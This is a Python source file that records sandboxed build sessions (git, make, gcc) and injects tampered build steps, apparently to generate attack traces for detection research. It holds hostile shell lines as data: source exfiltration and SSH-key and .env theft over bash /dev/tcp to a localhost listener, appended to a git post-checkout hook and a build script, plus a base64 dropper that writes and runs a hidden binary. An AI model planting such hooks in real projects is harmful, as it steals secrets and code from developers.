"""Record a build: git, make and gcc at work on a small C project, and tampered build steps."""

from __future__ import annotations

import base64
import gzip
import random
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

from conversation import Conversation
from listener import Listener, answer, receive
from tracing import Run, Sandbox, Window, traced

from programs.dropped import compile_dropped, wait_for_report

if TYPE_CHECKING:
    from collections.abc import Callable

ATTACKS = ("dropped-binary", "key-theft-hook", "source-exfiltration")

PROJECT = Path(__file__).resolve().parent.parent / "workloads" / "project"
SOURCES = ("main", "parse", "stats", "format")
GZIP_MAGIC = b"\x1f\x8b"
MIRROR_ANSWER = b"libround 0.9\n"

GIT_CONFIG = """\
[user]
    name = Habitus Recorder
    email = recorder@habitus.invalid
[init]
    defaultBranch = main
[gc]
    auto = 0
[maintenance]
    auto = false
"""

# How the sources leave; @PORT@ stands for the listener's port.
EXFILTRATIONS = (
    "bash -c 'tar -cz Makefile include src > /dev/tcp/127.0.0.1/@PORT@'\n",
    """tar -czf "$TMPDIR/.s" Makefile include src tools
bash -c 'cat "$TMPDIR/.s" > /dev/tcp/127.0.0.1/@PORT@'
rm "$TMPDIR/.s"
""",
    "bash -c 'git archive --format=tar.gz HEAD > /dev/tcp/127.0.0.1/@PORT@'\n",
)

# How a hook looks for keys.
KEY_HUNTS = (
    """bash -c 'cat "$HOME"/.ssh/id_* "$HOME"/.config/*.env > /dev/tcp/127.0.0.1/@PORT@'\n""",
    """keys=$(find "$HOME" -name 'id_*' -o -name '*.env')
bash -c 'cat "$@" > /dev/tcp/127.0.0.1/@PORT@' - $keys
""",
    """keys=$(grep -rlE 'KEY|TOKEN|PASSWORD' "$HOME/.ssh" "$HOME/.config")
tar -cf - $keys 2> /dev/null | bash -c 'cat > /dev/tcp/127.0.0.1/@PORT@'
""",
)


class Workplace:
    """The project's folder in a run, and the traced shell in which the work is done."""

    def __init__(
        self, sandbox: Sandbox, shell: Conversation, rng: random.Random, mirror: int
    ) -> None:
        self.sandbox = sandbox
        self.run = shell.shell
        self.rng = rng
        self.mirror = mirror

    def edit(self, name: str, line: str) -> None:
        """Change a file as an editor would, from outside the traced shell."""
        with (self.sandbox.desk / name).open("a", encoding="utf-8") as file:
            file.write(line + "\n")

    def jot(self) -> None:
        self.edit("NOTES", f"note {self.rng.randrange(10**6)}")

    def source(self) -> str:
        return f"src/{self.rng.choice(SOURCES)}.c"

    # Light steps

    def status(self) -> None:
        self.run(self.rng.choice(("git status", "git status --short")))

    def log(self) -> None:
        self.run(self.rng.choice(("git log --oneline", "git log -2 --stat", "git log -1 -p")))

    def diff(self) -> None:
        self.jot()
        self.run(self.rng.choice(("git diff", "git diff --stat")))

    def search(self) -> None:
        self.run(self.rng.choice(("git grep -n tally_sum", f"git blame {self.source()}")))

    def tag(self) -> None:
        self.run(f"git tag v{self.rng.randrange(10**6)}")
        self.run("git describe --tags --always")

    def new_branch(self) -> None:
        self.run(f"git checkout -q -b fix-{self.rng.randrange(10**6)}")

    def sweep(self) -> None:
        for name in self.rng.sample(("scratch", "core.txt", "a.tmp", "old.patch"), 2):
            self.edit(name, "left behind")
        self.run("git clean -fdq")

    def test(self) -> None:
        self.run(f"make test TESTS={self.rng.randint(1, 3)}")

    def stamp(self) -> None:
        self.run("make stamp")

    def check_deps(self) -> None:
        self.run(f"make check-deps MIRROR_PORT={self.mirror}")

    def dist(self) -> None:
        self.run("make dist")

    def plan_only(self) -> None:
        self.run(self.rng.choice(("make -n", "make -n test", "make --question all")))

    # Heavy steps

    def rebuild(self) -> None:
        """One source changes; make compiles it and links."""
        source = self.source()
        self.edit(source, f"/* reviewed {self.rng.randrange(10**6)} */")
        self.run("make")

    def commit(self) -> None:
        self.jot()
        self.run("git add NOTES")
        self.run(f"git commit -q -m 'Note {self.rng.randrange(10**6)}'")

    def merge(self) -> None:
        self.run("git checkout -q topic")
        self.run("git checkout -q -")
        self.run("git merge -q --no-edit topic")

    def stash(self) -> None:
        self.jot()
        self.run("git stash -q")
        self.run("git stash pop -q")

    def break_build(self) -> None:
        """A syntax error: make fails, and the source is taken back."""
        source = self.source()
        self.edit(source, self.rng.choice(("int unfinished(", "}", "#error not today")))
        self.run("make", status=2)
        self.run(f"git checkout -q -- {source}")

    def build_anew(self) -> None:
        self.run("make clean")
        self.run("make")

    # Intrusions

    def intrude(self, kind: str, number: int, window: Window) -> None:
        """Tamper with a step of the build, take that step, and put the step right again."""
        with Listener(receive) as listener:
            if kind == "key-theft-hook":
                hunt = KEY_HUNTS[number % len(KEY_HUNTS)]
                with Tampered(self.hook, hunt, listener.port), window:
                    self.new_branch()
                    listener.expect(b"NOT A KEY")
            elif kind == "source-exfiltration":
                leak = EXFILTRATIONS[number % len(EXFILTRATIONS)]
                with Tampered(self.stamper, leak, listener.port), window:
                    self.stamp()
                    listener.expect(GZIP_MAGIC)
            else:
                home = self.sandbox.home
                tool, report = home / ".cache" / ".fontd", home / ".cache" / ".fontd.idx"
                with Tampered(self.stamper, self.dropper(tool, report), 0), window:
                    self.stamp()
                    wait_for_report(report)

    @property
    def hook(self) -> Path:
        return self.sandbox.desk / ".git/hooks/post-checkout"

    @property
    def stamper(self) -> Path:
        return self.sandbox.desk / "tools/stamp.sh"

    def dropper(self, tool: Path, report: Path) -> str:
        """Shell lines that unpack the binary they carry, and run it."""
        packed = base64.encodebytes(gzip.compress(compile_dropped(self.sandbox))).decode()
        return (
            f"mkdir -p {tool.parent}\n"
            f"base64 -d <<'END' | gzip -d > {tool}\n{packed}END\n"
            f"chmod 700 {tool}\n"
            f"{tool} {report}\n"
        )


class Tampered:
    """``with Tampered(script, lines, port):`` the script does ``lines`` after its own work."""

    def __init__(self, script: Path, lines: str, port: int) -> None:
        self.script = script
        self.before = script.read_text()
        self.lines = lines.replace("@PORT@", str(port))

    def __enter__(self) -> None:
        self.script.write_text(self.before + self.lines)

    def __exit__(self, *_: object) -> None:
        self.script.write_text(self.before)


LIGHT: dict[Callable[[Workplace], None], int] = {
    Workplace.status: 3,
    Workplace.log: 3,
    Workplace.diff: 4,
    Workplace.search: 3,
    Workplace.tag: 1,
    Workplace.new_branch: 2,
    Workplace.sweep: 3,
    Workplace.test: 3,
    Workplace.stamp: 2,
    Workplace.check_deps: 2,
    Workplace.dist: 1,
    Workplace.plan_only: 4,
}

# By seed, in a cycle, so that few runs hold them all; the runs between have light steps alone.
HEAVY: dict[int, Callable[[Workplace], None]] = {
    2: Workplace.break_build,
    3: Workplace.commit,
    5: Workplace.rebuild,
    8: Workplace.merge,
    10: Workplace.commit,
    12: Workplace.stash,
    14: Workplace.rebuild,
    16: Workplace.build_anew,
    18: Workplace.break_build,
}
HEAVY_CYCLE = 20


def prepare(sandbox: Sandbox, rng: random.Random) -> None:
    """Set the project up, with a little history and a branch to merge, and build it."""
    desk = sandbox.desk
    (sandbox.home / ".gitconfig").write_text(GIT_CONFIG)
    shutil.copytree(PROJECT, desk, dirs_exist_ok=True)
    (desk / ".gitignore").write_text("build/\nconfig.mk\n")
    # The gold linker makes a third of the calls of the usual one.
    gold = shutil.which("ld.gold", path=sandbox.environment()["PATH"])
    (desk / "config.mk").write_text("LDFLAGS = -fuse-ld=gold\n" if gold else "")

    def quietly(*command: str) -> None:
        subprocess.run(
            command, cwd=desk, env=sandbox.environment(), check=True, stdout=subprocess.DEVNULL
        )

    quietly("git", "init", "-q")
    for number in range(rng.randint(1, 3)):
        with (desk / "NOTES").open("a", encoding="utf-8") as notes:
            notes.write(f"entry {rng.randrange(10**6)}\n")
        quietly("git", "add", ".")
        quietly("git", "commit", "-q", "-m", f"Entry {number}")
    quietly("git", "checkout", "-q", "-b", "topic")
    (desk / "TOPIC").write_text(f"topic {rng.randrange(10**6)}\n")
    quietly("git", "add", ".")
    quietly("git", "commit", "-q", "-m", "Write down the topic")
    quietly("git", "checkout", "-q", "main")
    quietly("make")
    hook = desk / ".git/hooks/post-checkout"
    shutil.copy(desk / "tools/post-checkout", hook)
    hook.chmod(0o755)


def plan(rng: random.Random, seed: int) -> list[Callable[[Workplace], None]]:
    """The steps of one run: some light ones, and often a heavy one among them."""
    steps = rng.choices(list(LIGHT), weights=list(LIGHT.values()), k=2)
    if heavy := HEAVY.get(seed % HEAVY_CYCLE):
        steps.insert(rng.randint(0, len(steps)), heavy)
    return steps


def record(run: Run, sandbox: Sandbox, trace: Path) -> Window:
    """Record one run: the shell of a build agent, from its start to the end of its work."""
    rng = random.Random(f"build:{run.seed}")
    prepare(sandbox, rng)
    steps = plan(rng, run.seed)
    attack_at = rng.randrange(1, len(steps)) if run.attack else None
    window = Window()
    with Listener(answer(MIRROR_ANSWER)) as mirror, traced(["/bin/sh"], sandbox, trace) as process:
        work = Workplace(sandbox, Conversation(process), rng, mirror.port)
        for number, step in enumerate(steps):
            if number == attack_at and run.attack:
                work.intrude(run.attack, run.number, window)
            step(work)
    return window
